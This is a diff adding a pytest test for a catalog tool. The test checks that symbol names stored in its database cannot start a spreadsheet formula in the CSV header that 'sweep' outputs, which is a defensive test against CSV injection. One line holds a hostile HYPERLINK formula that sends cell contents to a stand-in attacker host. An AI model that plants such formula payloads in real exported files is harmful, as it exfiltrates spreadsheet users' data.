@@ -972,3 +972,24 @@ def test_a_stored_formula_that_does_not_parse_is_one_error_in_a_table(tmp_path, 
         connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
     result = _cli("table", "--columns", "paper,form", "--where", "id=defined", "--format", fmt, "--db", url)
     _one_error_line(result, 1, "'repeated-data'", "rebuild it with 'catalog load'")
+
+
+def test_a_stored_symbol_name_never_starts_a_spreadsheet_formula_in_a_sweep(tmp_path):
+    # sweep's CSV header holds the law's symbol names, defined ones included: from a catalog.sqlite no
+    # load wrote, a name no record may hold reached the header as it was, run by a spreadsheet
+    import csv
+    import io
+    import json
+    import sqlite3
+
+    url = f"sqlite:///{tmp_path / 'defined.sqlite'}"
+    db.load(records.load_valid([FIXTURES / "valid" / "defined.yaml"]), url)
+    hostile = '=HYPERLINK("http://evil.example/?"&A1)'
+    with sqlite3.connect(tmp_path / "defined.sqlite") as connection:
+        record = json.loads(connection.execute("SELECT record_json FROM papers").fetchone()[0])
+        symbols = record["laws"][0]["symbols"]
+        symbols[hostile] = {**symbols["Dprime"], "expression": "U"}
+        connection.execute("UPDATE papers SET record_json = ?", (json.dumps(record),))
+    result = _cli("sweep", "defined", "N=7e7", "U=2e9", "R=0..40:3 lin", "--db", url)
+    header = next(csv.reader(io.StringIO(result.output)))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header), header
